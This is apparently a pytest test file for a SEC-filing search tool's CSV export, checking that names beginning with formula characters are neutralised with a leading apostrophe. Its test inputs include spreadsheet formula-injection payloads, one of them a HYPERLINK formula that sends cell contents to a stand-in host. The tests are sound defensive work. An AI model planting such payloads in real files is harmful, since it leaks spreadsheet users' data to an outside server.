"""Exports as comma-separated values, for programs and for spreadsheets."""

import csv
import io

import pytest

from edgar_search.web.v1.export_files import FILING_COLUMNS, CommaSeparated, FilingRecord, Progress

NAMES = {
    "=1+2": "'=1+2",
    '=HYPERLINK("http://a.example/?"&A1,"x")': '\'=HYPERLINK("http://a.example/?"&A1,"x")',
    "+1 COMPANY": "'+1 COMPANY",
    "-A-": "'-A-",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "\n=1": "'\n=1",
    "＝1+2": "'＝1+2",
    "-5 COMPANY": "'-5 COMPANY",
    "-5+A1": "'-5+A1",
    "-5": "-5",
    "+1,234.50": "+1,234.50",
    "-.5%": "-.5%",
    "A=1": "A=1",
    "'=1": "'=1",
    "#1": "#1",
    "": "",
}


def cell(name: str, *, raw: bool) -> str:
    """The cell of a company's name, read back."""
    record = FilingRecord("0009990092-20-000001", "8-K", "2020-01-01", [name], [], 1, [], "", -0.5)
    writer = CommaSeparated(FILING_COLUMNS, raw=raw)
    data = (writer.begin() + writer.write([record])).decode()
    (row,) = csv.DictReader(io.StringIO(data, newline=""))
    assert row["score"] == "-0.5"
    return row["related_company_names"]


@pytest.mark.parametrize("name", NAMES)
def test_no_text_is_a_formula_in_a_spreadsheet(name: str) -> None:
    assert cell(name, raw=False) == NAMES[name]


@pytest.mark.parametrize("name", NAMES)
def test_raw_texts_are_as_filed(name: str) -> None:
    assert cell(name, raw=True) == name


def test_control_record_is_the_same_for_both() -> None:
    progress = Progress(3, True)
    assert (
        CommaSeparated(FILING_COLUMNS, raw=True).note(progress)
        == CommaSeparated(FILING_COLUMNS).note(progress)
        == b'#{"records":3,"complete":true}\r\n'
    )
